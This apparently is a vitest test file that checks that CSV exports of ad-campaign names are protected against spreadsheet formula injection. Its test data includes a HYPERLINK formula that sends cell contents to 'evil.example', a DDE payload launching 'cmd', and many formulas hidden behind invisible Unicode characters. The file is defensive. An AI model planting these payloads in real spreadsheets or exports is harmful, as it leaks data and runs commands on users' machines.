import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { spreadsheetText } from '../../src/domain/outside-text.ts';
import { id, text } from '../../src/storage/columns/column.ts';
import { exportTables } from '../../src/storage/warehouse/publish/export-tables.ts';
import { csvText } from '../../src/views/kit/rows.ts';
import { sheetOf } from '../../src/views/kit/sheet.ts';
import { tempDir } from '../support/temp-dir.ts';
import { addTable, publish, stateFile } from '../warehouse/published.ts';

const NAMES: readonly (readonly [sentence: string, name: string])[] = [
  ['a link that sends cells away', '=HYPERLINK("http://evil.example/?"&A1,"more")'],
  ['a command of DDE', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['behind a blank', ' =1+1'],
  ['behind a non-breaking space', '\u00a0=1+1'],
  ['behind a zero-width space', '\u200b=1+1'],
  ['behind a byte order mark', '\ufeff=1+1'],
  ['behind an ideographic space', '\u3000=1+1'],
  ['behind a narrow blank, in full width', '\u202f＝1+1'],
  ['behind a word joiner', '\u2060+1+1'],
  ['behind direction marks', '\u200f\u202a-1+cmd'],
  ['behind a soft hyphen', '\u00ad@SUM(1)'],
  ['behind a Hangul filler', '\u3164=1+1'],
  ['behind a variation selector of two units', '\u{e0100}=1+1'],
  ['behind a Braille blank', '\u2800=1+1'],
  ['behind a control character', '\u0000\u001f=1+1'],
  ['behind a line separator', 'shoes\u2028=1+1'],
  ['behind a vertical tab', 'shoes\u000b=1+1'],
  ['behind blanks of many kinds, after a semicolon', 'shoes; \u2003\u200d"\u205f=1+1'],
  ['behind a quote', '"=1+1'],
  ['on a line of its own', 'shoes\n=1+1'],
  ['behind a tab, a cell separator for some', 'shoes\t=1+1'],
  ['behind a semicolon, a cell separator in half of Europe', 'shoes;=1+1;'],
  ['behind a semicolon and quotes', 'shoes;"=1+1";'],
  ['in full width', 'shoes;＝1+1;'],
  ['a minus that looks like a number', '-1+cmd'],
];
/** How programs part the cells of a line, by the country that they are set to. */
const DELIMITERS = [',', ';', '\t'];
const LINE_ENDS = /[\n\v\f\r\u0085\u2028\u2029]/;
/** What is not seen before a formula, and does not stop one. */
const UNSEEN = /^(?:[\s"\u2800]|\p{Default_Ignorable_Code_Point}|\p{Cf}|\p{Cc})*/u;

/** As forgiving as spreadsheets are: a quote means something where a cell begins, and none need be closed. */
function cellsOf(csv: string, delimiter: string): string[] {
  const cells = [''];
  let quoted = false;
  for (const [at, sign] of [...csv].entries()) {
    const begins = cells.at(-1) === '' && !quoted && csv[at - 1] !== '"';
    if (sign === '"' && (begins || quoted)) quoted = !quoted;
    else if (!quoted && (sign === delimiter || LINE_ENDS.test(sign))) cells.push('');
    else cells.push(`${cells.pop()}${sign}`);
  }
  return cells;
}
const formulas = (csv: string) =>
  DELIMITERS.flatMap((delimiter) => cellsOf(csv, delimiter)).filter(
    (cell) => /^[=+\-@＝＋－＠]/.test(cell.replace(UNSEEN, '')) && !/^-?\d+(\.\d+)?$/.test(cell),
  );

describe('a campaign with a formula as name', () => {
  it.each(NAMES)('is not a formula in a listing, for any cell separator: %s', (_, name) => {
    const columns = [
      id('id', 'Before.', () => 5),
      text('name', 'The name.', () => name),
      text('note', 'Behind.', () => 'x'),
    ];
    expect(formulas(csvText(sheetOf(columns, [{}], 'rows')))).toEqual([]);
  });

  it('is not a formula in exported tables, and stays unchanged in the database and in JSON', async () => {
    const state = await stateFile();
    const query = 'SELECT campaign.name, metrics.clicks FROM campaign';
    const rows = NAMES.map(([, name]) => ({ campaign_name: name, clicks: 1 }));
    addTable(state, 'words', query, rows);
    const { tables } = await publish(state);
    const folder = tempDir();
    await exportTables(state.published, tables, 'csv', folder);
    await exportTables(state.published, tables, 'json', folder);
    expect(formulas(readFileSync(join(folder, 'words.csv'), 'utf8'))).toEqual([]);
    const kept = JSON.parse(readFileSync(join(folder, 'words.json'), 'utf8')) as { campaign_name: string }[];
    expect(kept.map((row) => row.campaign_name)).toEqual(NAMES.map(([, name]) => name));
  });

  it('would be a formula without protection: this test finds it', () => {
    const raw = NAMES.map(([, name]) => `"1","${name.replaceAll('"', '""')}"\r\n`);
    expect(raw.filter((csv) => formulas(csv).length === 0)).toEqual([]);
  });
});

describe('a harmless name', () => {
  it.each(['Shoes - Berlin', 'a=b', 'A; B', 'x@example.com', '5 > 3', '100%', ''])('stays unchanged: %j', (name) => {
    expect(spreadsheetText(name)).toBe(name);
  });
});
